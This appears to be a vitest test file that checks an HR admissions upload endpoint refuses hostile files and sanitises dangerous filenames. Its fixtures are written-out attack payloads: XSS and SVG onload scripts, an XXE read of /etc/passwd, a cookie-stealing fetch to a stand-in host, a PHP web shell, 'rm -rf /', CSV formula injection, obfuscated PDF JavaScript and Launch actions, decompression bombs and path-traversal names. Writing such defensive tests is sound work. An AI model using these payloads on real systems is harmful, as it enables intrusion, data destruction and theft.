import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { abrirVagas, rascunhoCompleto } from '../../test/admissoes.ts'
import { createTestApp, type Client, type TestApp } from '../../test/harness.ts'

let rh: TestApp
let operacional: Client
let query: { admissaoId: number; tipoId: number }
beforeAll(async () => {
  rh = await createTestApp()
  await abrirVagas(rh.db)
  operacional = await rh.as('coordenador.operacional')
  const { id } = await rascunhoCompleto(operacional)
  const { itens } = await operacional.call('GET /api/admissao/anexos/:id', { params: { id } })
  query = { admissaoId: id, tipoId: itens.find(({ codigo }) => codigo === 'IDENTIDADE')?.tipoId ?? 0 }
})
afterAll(() => rh[Symbol.asyncDispose]())

type Conteudo = string | Uint8Array
const bytes = (...valores: number[]): Uint8Array => Uint8Array.from(valores)
const latin = (texto: string): Uint8Array => Uint8Array.from(texto, (c) => c.charCodeAt(0) & 255)
const junto = (...partes: Conteudo[]): Uint8Array =>
  Buffer.concat(partes.map((parte) => (typeof parte === 'string' ? Buffer.from(parte) : parte)))
const enchimento = 'x'.repeat(64)

/** A picture that says it is huge and holds almost nothing. */
function pngDe(largura: number, altura: number): Uint8Array {
  const pedaco = (tipo: string, dados: Uint8Array): Uint8Array => {
    const corpo = junto(tipo, dados)
    const saida = Buffer.alloc(8 + corpo.length)
    saida.writeUInt32BE(dados.length, 0)
    saida.set(corpo, 4)
    return saida
  }
  const cabeca = Buffer.alloc(13)
  cabeca.writeUInt32BE(largura, 0)
  cabeca.writeUInt32BE(altura, 4)
  cabeca.set([8, 2, 0, 0, 0], 8)
  return junto(
    bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    pedaco('IHDR', cabeca),
    pedaco('IDAT', deflateSync(Buffer.alloc(1024))),
    pedaco('IEND', new Uint8Array()),
  )
}

const pdfDe = (objeto: Conteudo): Uint8Array =>
  junto('%PDF-1.7\n1 0 obj\n', objeto, '\nendobj\ntrailer <</Root 1 0 R>>\n%%EOF\n')
const empacotado = (objeto: string): Uint8Array => {
  const pacote = deflateSync(Buffer.from(objeto))
  const cabeca = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${pacote.length}>>stream\r\n`
  return junto(cabeca, pacote, '\nendstream')
}

/** Other kinds of file under the name and the type of a document. */
const outrosTipos: Readonly<Record<string, Conteudo>> = {
  html: '<!doctype html><script>alert(1)</script>',
  'html with blanks before': '   \n\n<html><body onload=alert(1)>',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  xml: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  javascript: 'fetch("https://fora.example/"+document.cookie)',
  json: '{"__proto__":{"admin":true}}',
  'shell script': '#!/bin/sh\nrm -rf /\n',
  php: '<?php system($_GET["c"]); ?>',
  csv: '=cmd|calc!A1;2;3\n',
  text: `so texto ${enchimento}`,
  rtf: `{\\rtf1\\ansi ${enchimento}}`,
  eml: `From: a@b.example\nSubject: x\n\n${enchimento}`,
  postscript: `%!PS-Adobe-3.0\n${enchimento}`,
  exe: latin(`MZ\u0090\u0000${enchimento}`),
  elf: junto(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1), enchimento),
  'mach-o': junto(bytes(0xcf, 0xfa, 0xed, 0xfe), enchimento),
  class: junto(bytes(0xca, 0xfe, 0xba, 0xbe), enchimento),
  wasm: junto(bytes(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0), enchimento),
  zip: junto('PK\u0003\u0004', enchimento),
  'empty zip': junto('PK\u0005\u0006', enchimento),
  gzip: junto(bytes(0x1f, 0x8b, 8, 0), enchimento),
  bzip2: `BZh9${enchimento}`,
  xz: junto(bytes(0xfd, 0x37, 0x7a, 0x58, 0x5a, 0), enchimento),
  '7z': junto(bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c), enchimento),
  rar: `Rar!\u001a\u0007${enchimento}`,
  tar: `arquivo${'\u0000'.repeat(250)}ustar`,
  'old office': junto(bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), enchimento),
  sqlite: `SQLite format 3\u0000${enchimento}`,
  gif: `GIF89a${enchimento}`,
  bmp: `BM${enchimento}`,
  'tiff little': junto(bytes(0x49, 0x49, 0x2a, 0), enchimento),
  'tiff big': junto(bytes(0x4d, 0x4d, 0, 0x2a), enchimento),
  ico: junto(bytes(0, 0, 1, 0, 1, 0), enchimento),
  webp: junto('RIFF', bytes(36, 0, 0, 0), 'WEBPVP8 ', enchimento),
  avif: junto(bytes(0, 0, 0, 28), 'ftypavif', enchimento),
  heic: junto(bytes(0, 0, 0, 28), 'ftypheic', enchimento),
  mp4: junto(bytes(0, 0, 0, 24), 'ftypmp42', enchimento),
  mp3: `ID3\u0003${enchimento}`,
  wav: junto('RIFF', bytes(36, 0, 0, 0), 'WAVEfmt ', enchimento),
  ogg: `OggS${enchimento}`,
  flash: `CWS${enchimento}`,
  psd: `8BPS${enchimento}`,
  woff2: `wOF2${enchimento}`,
  'only zeros': new Uint8Array(64),
  'one byte': 'x',
  nothing: '',
}

const emDigitos = (texto: string): string => Buffer.from(texto).toString('hex')

/** What begins like a document and is none. */
const falsos: Readonly<Record<string, Conteudo>> = {
  'a PDF that stops': `%PDF-1.7\n${enchimento}`,
  'a PDF with its head only': '%PDF-',
  'a PDF with a password': `%PDF-1.7\n/Encrypt 5 0 R\n${enchimento}\n%%EOF`,
  'a PDF with a password under another spelling': `%PDF-1.7\n/Encr#79pt 5 0 R\n${enchimento}\n%%EOF`,
  'a PDF with a script in objects that are written in digits': pdfDe(
    junto(
      '<</Type /ObjStm /Filter /ASCIIHexDecode>>stream\n',
      emDigitos('<</S /JavaScript>>'),
      '\nendstream',
    ),
  ),
  'a PDF with a script in objects that are packed twice': pdfDe(
    junto(
      '<</Type/Obj#53tm/Filter[/FlateDecode/FlateDecode]>>stream\n',
      deflateSync(deflateSync('<</S /JavaScript /JS (app.alert(1))>>')),
      '\nendstream',
    ),
  ),
  'a PDF with a script': pdfDe('<</S/JavaScript/JS(app.alert(1))>>'),
  'a PDF with a script under another spelling': pdfDe('<</S/J#61va#53cript/JS(app.alert(1))>>'),
  'a PDF with a script spelled with both cases of digits, among what only looks like one': pdfDe(
    '<</S ##4 #4g /#4A#61vaScr#69p#74 /JS(app.alert(1))>>#4',
  ),
  'a PDF with a script in a packed object': pdfDe(empacotado('<</S /JavaScript /JS (app.alert(1))>>')),
  'a PDF with a script in a packed object whose checksum is wrong': pdfDe(
    junto(
      '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n',
      deflateSync('<</S /JavaScript /JS (app.alert(1))>>').subarray(0, -4),
      'errado\nendstream',
    ),
  ),
  'a PDF that starts a program': pdfDe('<</S /Launch /F (calc.exe)>>'),
  'a PDF with a form of its own language': pdfDe('<</AcroForm <</XFA [(template) 5 0 R]>>>>'),
  'a PDF that unpacks to more than any document': pdfDe(empacotado(' '.repeat(70 * 1_048_576))),
  'a PDF after a page of HTML': `<html>${enchimento}</html>%PDF-1.7\n%%EOF`,
  'a JPEG of noise': junto(bytes(0xff, 0xd8, 0xff, 0xe0), enchimento),
  'a JPEG and then HTML': junto(bytes(0xff, 0xd8, 0xff, 0xe1), '<script>alert(1)</script>', enchimento),
  'a JPEG of three bytes': bytes(0xff, 0xd8, 0xff),
  'a PNG of noise': junto(bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), enchimento),
  'a PNG with its head only': bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
  'a PNG of 30,000 by 30,000': pngDe(30_000, 30_000),
  'a PNG of four billion in width': pngDe(0xff_ff_ff_ff, 1),
  'a PNG without width': pngDe(0, 10),
  'a PNG whose pixels are missing': pngDe(500, 500),
}

/** What the sender claims is never believed: any claim will do. */
const tipos = ['application/pdf', 'image/jpeg', 'image/png'] as const
const enviar = (conteudo: Conteudo, nome = 'documento.pdf', type: string = tipos[0]) =>
  operacional.try('POST /api/admissao/anexo', {
    query,
    arquivo: new File(
      [new Uint8Array(typeof conteudo === 'string' ? Buffer.from(conteudo) : conteudo)],
      nome,
      { type },
    ),
  })
const guardados = async (): Promise<number> => {
  const linhas = await rh.db.selectFrom('processoAnexo').select('id').execute()
  return linhas.length
}

describe('hostile files', () => {
  it('are more than fifty', () => {
    expect(Object.keys(outrosTipos).length + Object.keys(falsos).length).toBeGreaterThan(55)
  })

  it.each(Object.entries({ ...outrosTipos, ...falsos }))(
    '%s is refused in words, and nothing is kept',
    async (_, conteudo) => {
      const antes = await guardados()
      const type = tipos[conteudo.length % tipos.length] ?? tipos[0]
      const { status, body } = await enviar(conteudo, 'documento.pdf', type)
      expect([400, 415]).toContain(status)
      expect(body).toMatchObject({ acao: expect.stringMatching(/.{10,}/) })
      expect(await guardados()).toBe(antes)
    },
  )

  it('that only look like scripts are kept: a picture may hold any bytes, and a text any word', async () => {
    const ruido = junto('<</Subtype/Image/Filter/DCTDecode>>stream\n', '/JS /AA /JS (', '\nendstream')
    const texto = empacotado('BT (JavaScript, Launch e XFA no texto) Tj ET')
    expect((await enviar(pdfDe(junto(ruido, '\n', texto)))).status).toBe(201)
  })

  it('whose objects are packed as programs pack them are kept', async () => {
    const objetos = junto(
      '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 30>>stream\n',
      deflateSync('1 0 <</Type/Catalog/Pages 2 0 R>>'),
      '\nendstream\nendobj\n2 0 obj\n<</Filter[/ASCII85Decode/FlateDecode]>>stream\n',
      'GhQ]<YmS?5~>',
      '\nendstream',
    )
    expect((await enviar(pdfDe(objetos))).status).toBe(201)
  })

  it('that begin a million pieces and end none are looked through once', { timeout: 60_000 }, async () => {
    const pedaco = Buffer.from('>>stream\nx')
    const grande = junto('%PDF-1.7\n', Buffer.alloc(9 * 1_048_576, pedaco), '\n%%EOF')
    expect((await enviar(grande)).status).toBe(415)
  })

  it('of escapes alone take no longer than others: the system answers meanwhile', async () => {
    const demora = async (pedaco: string): Promise<number> => {
      const arquivo = pdfDe(empacotado(pedaco.repeat((48 * 1_048_576) / pedaco.length)))
      const antes = performance.eventLoopUtilization()
      expect((await enviar(arquivo)).status).toBe(201)
      return performance.eventLoopUtilization(antes).active
    }
    const [simples, comEscapes] = [await demora('a'), await demora('#41')]
    expect(comEscapes).toBeLessThan(simples * 5 + 500)
  }, 120_000)

  it('of more than ten megabytes are refused', async () => {
    const grande = junto('%PDF-1.7\n', Buffer.alloc(10 * 1_048_576 + 1), '%%EOF')
    expect(await enviar(grande)).toMatchObject({ status: 413 })
  })

  it.each([
    ['../../etc/passwd.png', /^passwd\.jpg$/],
    ['C:\\Windows\\win.ini.png', /^win\.ini\.jpg$/],
    ['..', /^arquivo\.jpg$/],
    ['a\u202Egnp.exe.png', /^agnp\.exe\.jpg$/],
    [`${'n'.repeat(300)}.png`, /^n{100,200}\.jpg$/],
    ['CON.png', /^CON\.jpg$/],
  ])('named %s are kept under an id, with a harmless name', async (nome, mostrado) => {
    const cor = { r: nome.length % 256, g: 10, b: 20 }
    const foto = await sharp({ create: { width: 20, height: 20, channels: 3, background: cor } })
      .png()
      .toBuffer()
    const { status, body } = await enviar(foto, nome, 'image/png')
    expect(status).toBe(201)
    const arquivos = (body as { itens: { arquivos: { nome: string | null }[] }[] }).itens.flatMap(
      (i) => i.arquivos,
    )
    const ultimo = arquivos.at(-1)?.nome ?? ''
    expect(ultimo).not.toMatch(/[\\/\p{Cc}\p{Cf}]/u)
    expect(ultimo).toMatch(mostrado)
  })
})
